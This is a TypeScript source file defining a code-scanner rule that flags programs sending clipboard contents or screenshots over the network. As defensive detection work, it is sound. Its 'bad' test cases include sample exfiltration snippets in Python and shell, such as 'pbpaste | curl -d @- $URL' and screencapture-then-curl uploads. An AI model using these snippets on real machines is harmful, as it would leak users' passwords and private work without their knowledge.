import { any, anyArgument, call, from } from "../match.ts";
import { defineRule } from "../rule.ts";
import { SENDS } from "../vocabulary/network-calls.ts";
import { SHELL_SENDS } from "../vocabulary/shell-commands.ts";
import { clipboard, screenshot } from "../vocabulary/sources.ts";

export default defineRule({
  id: "watched-user-sent",
  category: "data_exfiltration",
  severity: "high",
  confidence: "medium",
  languages: ["python", "javascript", "shell"],
  title: "the clipboard or the screen is sent over the network",
  why: "Both hold what the user works on at that moment, passwords among it.",
  fix: "Send only what the user has picked.",
  references: ["ATT&CK T1113", "ATT&CK T1115", "ATT&CK T1041"],
  match: call({
    of: [...SENDS, ...SHELL_SENDS],
    where: any(anyArgument(from(clipboard)), anyArgument(from(screenshot))),
  }),
  bad: [
    'import pyperclip, requests\nrequests.post("https://example.com", data=pyperclip.paste())',
    'import pyperclip, requests\ndef send(text):\n    requests.post("https://example.com", json={"t": text})\nsend(pyperclip.paste())',
    'import io, pyautogui, requests\nb = io.BytesIO()\npyautogui.screenshot().save(b, "PNG")\nrequests.post(url, files={"f": b.getvalue()})',
    { "run.sh": "screencapture -x /tmp/s.png\ncurl -F f=@/tmp/s.png $URL" },
    { "run.sh": "pbpaste | curl -d @- $URL" },
  ],
  good: [
    "import pyperclip\nprint(pyperclip.paste())",
    'import pyperclip, requests\npyperclip.copy(requests.get("https://example.com").text)',
  ],
});
